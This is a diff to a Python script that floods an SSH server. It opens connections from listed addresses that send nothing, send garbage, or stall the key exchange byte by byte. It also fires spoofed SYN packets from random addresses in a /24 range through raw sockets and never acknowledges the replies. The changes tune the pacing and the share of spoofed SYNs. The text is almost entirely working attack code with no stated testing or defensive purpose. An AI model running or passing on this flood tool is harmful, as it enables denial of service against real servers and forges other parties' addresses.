@@ -2,14 +2,13 @@
 
 From the ADDRESSES come RATE connections a second in all. Each does one of five things: says nothing, sends what is no
 version, sends messages that nobody knows and reads no answer, begins a key exchange and stops, or says its version and
-the same key exchange a byte at a time. As many SYNs come from addresses of NOBODY/24, and nobody acknowledges the answers.
-Says at the end how many connections there were, and how many of them were answered with a version.
+the same key exchange a byte at a time. A tenth as many SYNs come from addresses of NOBODY/24, and nobody acknowledges the
+answers. Says at the end how many connections there were, and how many of them were answered with a version.
 """
 
 import collections
 import os
 import random
-import select
 import socket
 import struct
 import sys
@@ -21,6 +20,7 @@ ADDRESSES = sys.argv[5:]
 PAUSE = len(ADDRESSES) / RATE
 IDENT = b"SSH-2.0-flood\r\n"
 OPEN_AT_A_TIME = 40
+BEFORE = 5
 
 
 def packet(payload):
@@ -72,17 +72,19 @@ def stranger(address):
         try:
             one.connect((HOST, PORT))
         except BlockingIOError:
-            select.select([], [one], [], 0.1)
+            pass
         except OSError:
             continue
         connections[address] += 1
-        say(one, at_once)
-        held.append([one, slowly])
+        held.append([one, at_once, slowly])
+        # Who came a few before is connected by now, if ever.
+        other = held[max(len(held) - BEFORE, 0)]
+        say(other[0], other[1])
         slow = random.choice(held)
-        say(slow[0], slow[1][:1])
-        slow[1] = slow[1][1:]
+        say(slow[0], slow[2][:1])
+        slow[2] = slow[2][1:]
         while len(held) > OPEN_AT_A_TIME:
-            oldest, _ = held.popleft()
+            oldest = held.popleft()[0]
             try:
                 served[address] += oldest.recv(8) == b"SSH-2.0-"
             except OSError:
@@ -101,13 +103,12 @@ def half_open():
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     net, to = socket.inet_aton(NOBODY)[:3], socket.inet_aton(HOST)
     for _ in pace():
-        for _ in ADDRESSES:
-            of = net + bytes([random.randrange(1, 255)])
-            tcp = struct.pack(">HHIIBBHHH", random.randrange(1024, 65536), PORT, random.getrandbits(32), 0, 0x50, 2, 1024, 0, 0)
-            sum_ = checksum(of + to + struct.pack(">HH", socket.IPPROTO_TCP, len(tcp)) + tcp)
-            tcp = tcp[:16] + struct.pack(">H", sum_) + tcp[18:]
-            head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0) + of + to
-            raw.sendto(head + tcp, (HOST, 0))
+        of = net + bytes([random.randrange(1, 255)])
+        tcp = struct.pack(">HHIIBBHHH", random.randrange(1024, 65536), PORT, random.getrandbits(32), 0, 0x50, 2, 1024, 0, 0)
+        sum_ = checksum(of + to + struct.pack(">HH", socket.IPPROTO_TCP, len(tcp)) + tcp)
+        tcp = tcp[:16] + struct.pack(">H", sum_) + tcp[18:]
+        head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0) + of + to
+        raw.sendto(head + tcp, (HOST, 0))
 
 
 os.nice(10)  # They have processors of their own.
